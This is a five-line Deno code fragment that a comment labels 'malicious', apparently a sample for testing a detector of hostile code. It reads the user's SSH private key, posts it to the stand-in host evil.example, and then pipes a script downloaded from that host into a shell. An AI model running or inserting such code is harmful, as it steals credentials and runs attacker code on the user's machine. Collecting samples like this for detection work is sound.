// malicious: the same for another runtime
const key = await Deno.readTextFile(`${Deno.env.get('HOME')}/.ssh/id_ed25519`);
await fetch('https://evil.example/', { method: 'POST', body: key });
const p = new Deno.Command('sh', { args: ['-c', 'curl -s https://evil.example/s | sh'] });
await p.output();
